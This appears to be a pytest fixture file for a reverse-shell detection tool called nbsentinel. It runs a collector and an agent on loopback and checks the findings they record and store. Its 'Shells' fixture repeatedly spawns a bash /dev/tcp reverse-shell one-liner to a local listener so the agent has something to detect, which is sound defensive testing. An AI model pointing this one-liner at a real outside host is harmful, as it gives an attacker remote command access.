"""A real collector and a real agent on loopback, in throwaway folders."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

NBSENTINEL = [sys.executable, "-m", "nbsentinel"]


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as probe:
        return int(probe.getsockname()[1])


def wait_for(what: str, condition: Callable[[], Any], seconds: float = 30) -> Any:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if answer := condition():
            return answer
        time.sleep(0.05)
    raise AssertionError(f"{what}: not within {seconds} s")


class Site:
    """A folder with a collector and an agent that can be killed and started again."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.port = folder, free_port()
        self.report = folder / "events.jsonl"
        self.collector: subprocess.Popen[bytes] | None = None
        self.agent: subprocess.Popen[bytes] | None = None
        config = folder / "collector.toml"
        config.write_text(
            f'[collector]\nport = {self.port}\ndatabase = "sqlite:///collector.db"\nsilence_seconds = 3\n'
        )
        (folder / "agent.toml").write_text(
            f'[agent]\nstate_dir = "{folder}/state"\nrun_dir = "{folder}/run"\nheartbeat_seconds = 2\n'
            f"[detect]\nloopback_is_remote = true\n"
            f'[report.file]\npath = "{self.report}"\n'
            f'[report.collector]\nurl = "http://127.0.0.1:{self.port}"\ntoken_file = "{folder}/token"\n'
        )
        token = subprocess.run([*NBSENTINEL, "collector", "token", "--config", config], capture_output=True, check=True)
        (folder / "token").write_bytes(token.stdout)

    def _spawn(self, name: str, *arguments: str) -> subprocess.Popen[bytes]:
        with (self.folder / f"{name}.log").open("ab") as log:
            return subprocess.Popen([*NBSENTINEL, *arguments], stdin=subprocess.DEVNULL, stdout=log, stderr=log)

    def start_collector(self) -> None:
        self.collector = self._spawn("collector", "collector", "--config", str(self.folder / "collector.toml"))
        wait_for("the collector answers", lambda: self.get("/healthz"))

    def start_agent(self, *, ready: bool = True) -> None:
        self.agent = self._spawn("agent", "agent", "--config", str(self.folder / "agent.toml"))
        if ready:
            status = [*NBSENTINEL, "status", "--run-dir", str(self.folder / "run"), "--json"]
            wait_for("the agent is ready", lambda: subprocess.run(status, capture_output=True).returncode == 0)

    def kill(self, name: str, number: signal.Signals = signal.SIGKILL) -> int:
        process = getattr(self, name)
        process.send_signal(number)
        code = process.wait(20)
        setattr(self, name, None)
        return int(code)

    def get(self, path: str, **query: object) -> Any:
        try:
            answer = requests.get(f"http://127.0.0.1:{self.port}{path}", params=query, timeout=10)  # type: ignore[arg-type]
        except requests.RequestException:
            return None
        if answer.status_code != 200:
            return None
        return answer.content if "ndjson" in answer.headers["Content-Type"] else answer.json()

    def recorded(self) -> list[str]:
        """Return the uids of the findings that the file sink was told of: recorded, so durable."""
        if not self.report.exists():
            return []
        lines = self.report.read_bytes().rpartition(b"\n")[0].splitlines()
        return [e["metadata"]["uid"] for e in map(json.loads, lines) if e["class_uid"] == 2004]

    def stored(self) -> list[str]:
        """Return the uids of the agents' findings in the collector's store."""
        found: list[str] = []
        after = 0
        while page := (self.get("/v1/findings", after=after, limit=1000) or {}).get("findings"):
            found += [item["event"]["metadata"]["uid"] for item in page if item["source"] == "agent"]
            after = page[-1]["id"]
        return found

    def verify(self) -> subprocess.CompletedProcess[str]:
        """Export everything and verify it offline, with keys and heads."""
        for name in ("keys", "heads"):
            (self.folder / f"{name}.json").write_text(json.dumps(self.get(f"/v1/{name}")))
        (self.folder / "export.ndjson").write_bytes(self.get("/v1/events"))
        command = [*NBSENTINEL, "verify", "export.ndjson", "--keys", "keys.json", "--heads", "heads.json"]
        return subprocess.run(command, cwd=self.folder, capture_output=True, text=True)

    def close(self) -> None:
        for process in (self.agent, self.collector):
            if process is not None:
                process.kill()
                process.wait()


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    """A collector that runs and an agent that does not yet."""
    made = Site(tmp_path)
    made.start_collector()
    yield made
    made.close()


class Shells:
    """Opens reverse shells to itself, a few at a time, until told to stop."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.2)
        self._port = self._listener.getsockname()[1]
        self._end = threading.Event()
        self._open: list[tuple[float, socket.socket]] = []
        self._children: list[subprocess.Popen[bytes]] = []
        self._threads = [threading.Thread(target=target) for target in (self._accept, self._spawn)]
        self.opened = 0

    def _spawn(self) -> None:
        code = f"exec 3<>/dev/tcp/127.0.0.1/{self._port}; exec sh <&3 >&3 2>&3"
        while not self._end.wait(0.12):
            self._children = [child for child in self._children if child.poll() is None]
            self._children.append(
                subprocess.Popen(["bash", "-c", code], stdin=subprocess.DEVNULL, env=dict(os.environ))
            )
            self.opened += 1

    def _accept(self) -> None:
        while not self._end.is_set():
            try:
                self._open.append((time.monotonic() + 0.6, self._listener.accept()[0]))
            except TimeoutError:
                pass
            for item in [item for item in self._open if item[0] < time.monotonic()]:
                item[1].close()
                self._open.remove(item)

    def __enter__(self) -> Shells:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._end.set()
        for thread in self._threads:
            thread.join()
        for _, connection in self._open:
            connection.close()
        self._listener.close()
        for child in self._children:
            child.kill()
            child.wait()


@pytest.fixture
def shells() -> Iterator[Shells]:
    """A source of findings."""
    with Shells() as running:
        yield running
